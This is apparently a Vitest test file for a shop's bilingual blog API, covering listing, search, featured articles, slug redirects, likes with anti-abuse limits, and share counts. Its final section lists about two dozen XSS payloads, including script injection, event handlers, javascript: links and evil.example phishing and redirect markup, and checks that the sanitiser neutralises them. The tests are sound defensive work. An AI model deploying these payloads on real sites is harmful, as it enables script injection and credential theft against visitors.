import { afterAll, beforeAll, expect, test } from 'vitest';
import { sql } from '../../../platform/database/index.ts';
import {
  createTestApp,
  createTestDatabase,
  makeArticle,
  makeCustomer,
  type TestDatabase,
} from '../../../testing/index.ts';

let database: TestDatabase;
let shop: Awaited<ReturnType<typeof createTestApp>>;
const HOUR_MS = 3_600_000;
const hoursAgo = (hours: number) => new Date(Date.now() - hours * HOUR_MS);

beforeAll(async () => {
  database = await createTestDatabase();
  shop = await createTestApp(database);
  const { db } = database;
  await makeArticle(db, {
    slug: 'choosing-oud',
    category: 'perfume',
    title: { ar: 'كيف تختار العود؟', en: 'How to choose oud' },
    excerpt: { ar: 'دليل قصير', en: 'A short guide' },
    tags: { ar: ['عود', 'هدايا'], en: ['oud', 'gifts'] },
    body: { ar: '## الرائحة\n\nالسماعات لا رائحة لها.', en: '## The smell\n\nWords.' },
    publishedAt: hoursAgo(4),
    isFeatured: true,
  });
  await makeArticle(db, { slug: 'serving-coffee', category: 'table', publishedAt: hoursAgo(3) });
  await makeArticle(db, { slug: 'keeping-dates', category: 'table', publishedAt: hoursAgo(2) });
  await makeArticle(db, { slug: 'gift-boxes', category: 'perfume', publishedAt: hoursAgo(1) });
  await makeArticle(db, { slug: 'not-yet', category: 'table', publishedAt: hoursAgo(-1) });
});
afterAll(async () => {
  await shop.close();
  await database.close();
});

const slugs = (cards: { slug: string }[]) => cards.map((card) => card.slug);

async function list(query = ''): Promise<string[]> {
  const { body } = await shop.call(`GET /blog${query}`);
  return slugs(body.data.data);
}

test('articles come newest first, in pages, without those that are not out yet', async () => {
  expect(await list()).toEqual(['gift-boxes', 'keeping-dates', 'serving-coffee', 'choosing-oud']);
  const { body } = await shop.call('GET /blog?page=2&per_page=3');
  expect(body.data).toMatchObject({ current_page: 2, last_page: 2, per_page: 3, total: 4 });
  expect(slugs(body.data.data)).toEqual(['choosing-oud']);
});

test('a list is narrowed by category, and an unknown one is not there', async () => {
  expect(await list('?category=table')).toEqual(['keeping-dates', 'serving-coffee']);
  const { status, body } = await shop.call('GET /blog?category=no-such');
  expect([status, body.code]).toEqual([404, 'content.blog_category_not_found']);
});

test.each([
  ['a title with another spelling', 'كيف تختار عود', ['choosing-oud']],
  ['a word of the text in its singular', 'سماعه', ['choosing-oud']],
  ['the other language', 'SHORT guide', ['choosing-oud']],
  ['every word', 'عود قهوة', []],
  ['no letter at all', '؟!', []],
  ['a pattern, which is only a text', '%', []],
])('a search finds by %s', async (_, search, expected) => {
  expect(await list(`?search=${encodeURIComponent(search)}`)).toEqual(expected);
});

test('featured articles are those chosen, then the newest', async () => {
  const { body } = await shop.call('GET /blog/featured?limit=2');
  expect(slugs(body.data)).toEqual(['choosing-oud', 'gift-boxes']);
});

test('categories say how many articles are out', async () => {
  const { body } = await shop.call('GET /blog/categories', { language: 'en' });
  expect(body.data).toEqual([
    { slug: 'perfume', name: 'Category perfume', articles_count: 2 },
    { slug: 'table', name: 'Category table', articles_count: 2 },
  ]);
});

test('an article is read by slug or number, with its table of contents and what to read next', async () => {
  const { body } = await shop.call('GET /blog/choosing-oud');
  expect(body.data).toMatchObject({
    slug: 'choosing-oud',
    title: 'كيف تختار العود؟',
    category: { slug: 'perfume' },
    author: { name: 'نوف', role: 'محررة' },
    html: '<h2 id="h-الرائحة">الرائحة</h2>\n<p>السماعات لا رائحة لها.</p>\n',
    headings: [{ id: 'h-الرائحة', text: 'الرائحة', level: 2 }],
    reading_minutes: 1,
  });
  expect(slugs(body.data.related)).toEqual(['gift-boxes', 'keeping-dates', 'serving-coffee']);
  const byNumber = await shop.call(`GET /blog/${body.data.id}`, { language: 'en' });
  expect(byNumber.body.data).toMatchObject({ title: 'How to choose oud', headings: [{ text: 'The smell' }] });
});

test.each(['no-such-article', '999999', 'not-yet'])('%s is not there', async (key) => {
  const { status, body } = await shop.call(`GET /blog/${key}`);
  expect([status, body.code]).toEqual([404, 'content.article_not_found']);
});

test('a slug given up leads on, until another article takes it', async () => {
  const { db } = database;
  const id = await makeArticle(db, { slug: 'first-name' });
  await makeArticle(db, { slug: 'second-name', id });
  await makeArticle(db, { slug: 'third-name', id });
  const read = async (slug: string) => (await shop.call(`GET /blog/${slug}`)).body.data;
  for (const old of ['first-name', 'second-name', 'third-name']) {
    expect(await read(old)).toMatchObject({ id, slug: 'third-name' });
  }
  await makeArticle(db, { slug: 'first-name', id });
  await expect.poll(async () => (await read('third-name')).slug).toBe('first-name');
  const other = await makeArticle(db, { slug: 'second-name' });
  await expect.poll(async () => (await read('second-name')).id).toBe(other);
  await sql`delete from articles where id in (${id}, ${other})`.execute(db);
});

test('a saved article replaces what was kept of it and of every list', async () => {
  const id = await makeArticle(database.db, { slug: 'kept', publishedAt: hoursAgo(9) });
  const titles = async () => {
    const [one, list] = await Promise.all([shop.call('GET /blog/kept'), shop.call('GET /blog')]);
    return [one.body.data.title, list.body.data.data.at(-1).title];
  };
  expect(await titles()).toEqual(['مقالة', 'مقالة']);
  await makeArticle(database.db, { slug: 'kept', id, title: { ar: 'غيرها', en: 'Other' }, publishedAt: hoursAgo(9) });
  await expect.poll(titles).toEqual(['غيرها', 'غيرها']);
});

test('liking twice counts once, taking it back twice too, and the article says the count', async () => {
  const like = async (body: object) => (await shop.call('POST /blog/gift-boxes/like', { body })).body.data;
  const [one, other] = [crypto.randomUUID(), crypto.randomUUID()];
  expect(await like({ visitor_id: one })).toEqual({ liked: true, like_count: 1 });
  expect(await like({ visitor_id: one })).toEqual({ liked: true, like_count: 1 });
  expect(await like({ visitor_id: other, liked: true })).toEqual({ liked: true, like_count: 2 });
  expect((await shop.call('GET /blog/gift-boxes')).body.data.like_count).toBe(2);
  expect(await like({ visitor_id: one, liked: false })).toEqual({ liked: false, like_count: 1 });
  expect(await like({ visitor_id: one, liked: false })).toEqual({ liked: false, like_count: 1 });
  expect((await shop.call('GET /blog/gift-boxes')).body.data.like_count).toBe(1);
});

test('a visitor without a number is told by the address, which is not kept', async () => {
  await shop.call('POST /blog/serving-coffee/like', { body: {} });
  await shop.call('POST /blog/serving-coffee/like', { body: {} });
  expect((await shop.call('GET /blog/serving-coffee')).body.data.like_count).toBe(1);
  const { rows } = await sql.rows({ visitor_key: sql.text })`select visitor_key from article_likes`.execute(
    database.db,
  );
  expect(JSON.stringify(rows)).not.toContain('127.0.0.1');
});

test('a hundred invented visitors of one address add what an address may, and no more is kept', async () => {
  const free = await createTestApp(database, { limits: false });
  const like = async (options: object) => (await free.call('POST /blog/serving-coffee/like', options)).body.data;
  await sql`delete from article_likes`.execute(database.db);
  await sql`update articles set like_count = 0`.execute(database.db);
  for (let time = 0; time < 100; time += 1) await like({ body: { visitor_id: crypto.randomUUID() } });
  const unproved = await makeCustomer(database.db);
  expect(await like({ body: {}, headers: unproved.headers }), 'an account is as soon invented').toMatchObject({
    like_count: 5,
  });
  const proved = await makeCustomer(database.db, { isPhoneVerified: true });
  expect(await like({ body: {}, headers: proved.headers })).toMatchObject({ like_count: 6 });
  const { rows } = await sql.rows({ kept: sql.int4 })`select count(*)::int as kept from article_likes`.execute(
    database.db,
  );
  expect(rows[0]?.kept).toBe(6);
  await sql`update article_likes set created_at = now() - interval '8 days'`.execute(database.db);
  expect(await like({ body: { visitor_id: crypto.randomUUID() } })).toMatchObject({ like_count: 7 });
  await free.close();
});

test('shares are counted', async () => {
  await shop.call('POST /blog/keeping-dates/share');
  const { body } = await shop.call('POST /blog/keeping-dates/share');
  expect(body.data).toEqual({ share_count: 2 });
  expect((await shop.call('GET /blog/keeping-dates')).body.data.share_count).toBe(2);
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '![x](x"onerror="alert(1))',
  '<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>',
  '## <img src=x onerror=alert(1)> heading',
  '## [x](javascript:alert(1))',
  '<h2 id="h-x" onmouseover="alert(1)">x</h2>',
  '`<script>alert(1)</script>`',
  '| a |\n|---|\n| <td onclick=alert(1)>x</td> |',
  '<details open ontoggle=alert(1)>x</details>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
];

/** Markup that a browser would execute: a tag or attribute outside the allowed ones, or a script address. */
const RUNS =
  /<(?!\/?(?:p|br|h[2-4]|ul|ol|li|strong|em|blockquote|hr|a|code|table|thead|tbody|tr|t[hd])\b)|<[^>]*\s(?!(?:href|rel|id)=)[a-z-]+\s*=|href="(?!https?:|mailto:|tel:|\/|#)/i;

test.each(ATTACKS)('nothing of %j runs in a reader’s browser', async (attack) => {
  await makeArticle(database.db, { slug: 'attacked', body: { ar: `قبل\n\n${attack}\n\nبعد`, en: attack } }).then(
    async (id) => {
      const { body } = await shop.call(`GET /blog/${id}`);
      await sql`delete from articles where id = ${id}`.execute(database.db);
      expect(body.data.html).not.toMatch(RUNS);
      expect(body.data.html).toContain('بعد');
      for (const heading of body.data.headings) expect(heading.text).not.toMatch(/<|javascript:/i);
    },
  );
});

test('the corpus is seen through: what is not sanitised fails', () => {
  const seen = ['<script>x</script>', '<p onclick="x">', '<a href="javascript:x">', '<img src="x">'];
  for (const html of seen) expect(html).toMatch(RUNS);
});
